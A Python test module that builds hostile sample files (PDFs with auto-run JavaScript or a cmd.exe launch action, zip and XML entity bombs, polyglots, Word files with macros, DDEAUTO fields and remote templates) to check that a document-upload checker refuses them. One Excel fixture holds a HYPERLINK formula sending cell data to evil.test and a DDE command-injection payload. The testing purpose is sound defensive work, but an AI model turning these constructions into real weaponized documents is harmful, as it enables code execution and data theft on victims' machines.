"""PDF, Word and Excel files, and archives, that act, hide or blow up (security.md 7.9)."""

import itertools
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

import pikepdf

from complaints.evidence import judging
from complaints.evidence.kinds import EvidenceKind
from publishing import documents, office_files, pdf_files, refusals, zip_files
from tests.complaints.bomb import OLE, Bomb, small, wrongly_named
from tests.publishing import samples

MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_PROJECT = OLE + bytes(50) + "_VBA_PROJECT".encode("utf-16-le")
SHEET = "xl/worksheets/sheet1.xml"

# ---------------------------------------------------------------- PDF


def pdf_with(objects: pikepdf.ObjectStreamMode, **root: object) -> bytes:
    document = samples.pdf_object()
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    return samples.saved(document, object_stream_mode=objects)


def plain_pdf(**root: object) -> bytes:
    return pdf_with(pikepdf.ObjectStreamMode.disable, **root)


def pdf_carrying(name: str, content: bytes) -> bytes:
    document = samples.pdf_object()
    document.attachments[name] = content
    return samples.saved(document)


def locked_pdf() -> bytes:
    return samples.saved(
        samples.pdf_object(), encryption=pikepdf.Encryption(owner="o", user="secret")
    )


def script_in_packed_objects() -> bytes:
    action = pikepdf.Dictionary(Next=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="a()"))
    names = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
    return pdf_with(pikepdf.ObjectStreamMode.generate, Names=pikepdf.Dictionary(Dests=names))


def looping_pdf() -> bytes:
    """Return a PDF whose page tree has itself as its page."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    body += b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    return body + b"trailer<</Root 1 0 R/Size 3>>\n%%EOF\n"


def nested_pdf() -> bytes:
    """Return a PDF with a list in a list, 200,000 deep."""
    deep = b"[" * 200_000 + b"]" * 200_000
    return plain_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + deep)


JAVASCRIPT = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}
PDFS = {
    "PDF with a script at opening": Bomb(
        "a.pdf",
        lambda: plain_pdf(OpenAction=pikepdf.Dictionary(**JAVASCRIPT)),
        pdf_files.SCRIPT,
    ),
    "PDF that starts a program": Bomb(
        "a.pdf",
        lambda: plain_pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
        pdf_files.SCRIPT,
    ),
    "PDF with a script in packed objects": Bomb(
        "a.pdf", script_in_packed_objects, pdf_files.SCRIPT
    ),
    "PDF with a form of scripts": Bomb(
        "a.pdf", lambda: plain_pdf(AcroForm=pikepdf.Dictionary(XFA="<xdp/>")), pdf_files.SCRIPT
    ),
    "PDF with a film": Bomb(
        "a.pdf", lambda: plain_pdf(Extra=pikepdf.Dictionary(RichMedia=1)), pdf_files.SCRIPT
    ),
    "PDF that carries a program": Bomb(
        "a.pdf",
        lambda: pdf_carrying("run.exe", b"MZ"),
        pdf_files.ATTACHMENT,
        {"attachment": "run.exe"},
    ),
    "PDF that carries a program as data": Bomb(
        "a.pdf",
        lambda: pdf_carrying("data.csv", b"MZ\x90\0"),
        pdf_files.ATTACHMENT,
        {"attachment": "data.csv"},
    ),
    "PDF under a password": Bomb("a.pdf", locked_pdf, refusals.PASSWORD),
    "PDF that unpacks to 300 MB": Bomb(
        "a.pdf", lambda: samples.pdf_bomb(megabytes=300), refusals.DAMAGED_DOCUMENT
    ),
    "PDF whose pages run in a ring": Bomb("a.pdf", looping_pdf, refusals.DAMAGED_DOCUMENT),
    "PDF 200,000 lists deep": Bomb("a.pdf", nested_pdf, refusals.DAMAGED_DOCUMENT),
    "PDF without pages": Bomb("a.pdf", lambda: samples.pdf(0), refusals.DAMAGED_DOCUMENT),
    "PDF cut off": Bomb("a.pdf", lambda: samples.pdf(9)[:700], refusals.DAMAGED_DOCUMENT),
    "PDF, web page and ZIP in one": Bomb(
        "a.pdf",
        lambda: b"%PDF-1.7\n<script>alert(1)</script>\nPK\x03\x04",
        refusals.HIDDEN_FILE,
    ),
    "PDF and ZIP in one": Bomb(
        "a.pdf", lambda: samples.pdf() + samples.package({"a": "a"}), refusals.HIDDEN_FILE
    ),
    "PDF behind something else": Bomb(
        "a.pdf", lambda: b"abc\n" + samples.pdf(), refusals.HIDDEN_FILE
    ),
    "program named PDF": Bomb("a.pdf", lambda: b"MZ\x90\0" + bytes(500), refusals.PROGRAM),
    "PDF named Word": wrongly_named("a.docx", samples.pdf, EvidenceKind.PDF),
}

# ---------------------------------------------------------------- Word, Excel, archives


def xlsx_of(cells: str) -> bytes:
    return samples.package(samples.xlsx_parts(cells))


def xlsx_stream(piece: bytes, count: int) -> bytes:
    """Return a sheet of one piece many times, written without holding it."""
    file = BytesIO(samples.xlsx())
    with (
        zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
        package.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as part,
    ):
        for _number in range(count):
            part.write(piece)
    return file.getvalue()


ROW = b'<row><c t="inlineStr"><is><t>' + b"A" * 200 + b"</t></is></c></row>"


def laughing_sheet() -> bytes:
    entities = "".join(
        f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in itertools.pairwise("abcdefghi")
    )
    sheet = f"<!DOCTYPE x [<!ENTITY a 'AAAAAAAAAA'>{entities}]><worksheet>&i;</worksheet>"
    return samples.xlsx({SHEET: sheet})


def many_members() -> bytes:
    """Return a ZIP of 100,000 empty parts, without the second table that so many would need."""
    names = [b"%d.xml" % number for number in range(100_000)]
    parts, table, at = [], [], 0
    for name in names:
        parts.append(b"PK\x03\x04\x14" + bytes(21) + struct.pack("<2H", len(name), 0) + name)
        table.append(
            b"PK\x01\x02\x14\0\x14" + bytes(21) + struct.pack("<H12xL", len(name), at) + name
        )
        at += len(parts[-1])
    size = sum(map(len, table))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, at, 0)
    return b"".join([*parts, *table, end])


def overlapping() -> bytes:
    """Return a ZIP in which two parts unpack the same bytes."""
    content = samples.package({"a.xml": "A" * 5000, "b.xml": "B" * 5000})
    second = content.rindex(b"PK\x01\x02")
    return content[: second + 42] + struct.pack("<L", 0) + content[second + 46 :]


def linked(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    return samples.docx({part: samples.relationships((kind, target), external=True)})


def with_part(name: str, content: bytes | str) -> Callable[[], bytes]:
    return lambda: samples.docx({name: content})


def locked_word() -> bytes:
    return OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le")


FORMULA = (
    '<row r="1"><c r="A1"><f>HYPERLINK("http://evil.test?"&amp;A2)</f></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c></row>'
)
FAR = '<dimension ref="A1:XFD1048576"/><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
DDE = "<w:instrText> DDEAUTO c:\\\\cmd</w:instrText>"
OFFICE = {
    "Excel of rows without end": Bomb(
        "a.xlsx", lambda: xlsx_stream(ROW * 1000, 400), zip_files.BOMB
    ),
    "Excel with one cell of 100 MB": Bomb(
        "a.xlsx", lambda: xlsx_stream(b"A" * 1_000_000, 100), zip_files.BOMB
    ),
    "Excel of a billion laughs": Bomb("a.xlsx", laughing_sheet, zip_files.DEFINITIONS),
    "Excel with a cell at the far edge": Bomb(
        "a.xlsx", lambda: xlsx_of(FAR), office_files.FAR_CELL, {"cell": "XFD1048576"}
    ),
    "Excel with formulas that phone home": Bomb("a.xlsx", lambda: xlsx_of(FORMULA), None),
    "Excel with links to other files": Bomb(
        "a.xlsx",
        lambda: samples.xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        office_files.EXTERNAL,
        {"part": "externalLink1.xml"},
    ),
    "ZIP in a ZIP": Bomb(
        "a.docx",
        lambda: samples.package({"b.zip": samples.package({"c.zip": samples.package({})})}),
        office_files.EMBEDDED,
        {"part": "b.zip"},
    ),
    "ZIP of 100,000 members": Bomb("a.docx", many_members, zip_files.BOMB),
    "ZIP of parts that overlap": Bomb("a.docx", overlapping, zip_files.BOMB),
    "ZIP named Word": Bomb("a.docx", lambda: samples.package({"a": "a"}), judging.ARCHIVE),
    "RAR": Bomb("a.rar", lambda: b"Rar!\x1a\x07\0" + bytes(100), judging.ARCHIVE),
    "7z named PDF": Bomb("a.pdf", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), judging.ARCHIVE),
    "old Word": Bomb("a.doc", lambda: OLE + bytes(600), documents.OLD_FORMAT),
    "Word under a password": Bomb("a.docx", locked_word, refusals.PASSWORD),
    "Word with macros": Bomb(
        "a.docx", with_part("word/vbaProject.bin", MACRO_PROJECT), office_files.MACROS
    ),
    "Word with macros by its type": Bomb(
        "a.docx",
        with_part(samples.CONTENT_TYPES, samples.content_types({"/word/document.xml": MACRO_MAIN})),
        office_files.MACROS,
    ),
    "Word with a template from elsewhere": Bomb(
        "a.docx",
        lambda: linked(
            "attachedTemplate", "http://evil.test/a.dotm", "word/_rels/settings.xml.rels"
        ),
        office_files.EXTERNAL,
        {"part": "attachedTemplate"},
    ),
    "Word with a picture that tells who looks": Bomb(
        "a.docx",
        lambda: linked("image", "http://evil.test/a.png"),
        office_files.EXTERNAL,
        {"part": "image"},
    ),
    "Word that asks a program": Bomb(
        "a.docx", with_part("word/footer1.xml", DDE), office_files.EXTERNAL, {"part": "footer1.xml"}
    ),
    "Word with a control": Bomb(
        "a.docx",
        with_part("word/activeX/activeX1.xml", "<a/>"),
        office_files.EMBEDDED,
        {"part": "activeX1.xml"},
    ),
    "Word with an object": Bomb(
        "a.docx",
        with_part("word/embeddings/oleObject1.bin", OLE + bytes(50)),
        office_files.EMBEDDED,
        {"part": "oleObject1.bin"},
    ),
    "Word in UTF-16": Bomb(
        "a.docx",
        with_part("word/footer1.xml", "<a/>".encode("utf-16")),
        refusals.DAMAGED_DOCUMENT,
    ),
    "Word with a TIFF": Bomb(
        "a.docx",
        with_part("word/media/image1.tiff", small("TIFF")),
        judging.STRANGE_PICTURE,
        {"part": "image1.tiff"},
    ),
    "Word with a broken photo": Bomb(
        "a.docx",
        with_part("word/media/image1.jpeg", b"\xff\xd8\xff\xe1\xff\xff"),
        judging.STRANGE_PICTURE,
        {"part": "image1.jpeg"},
    ),
    "Word named Excel": wrongly_named("a.xlsx", samples.docx, EvidenceKind.DOCX),
}
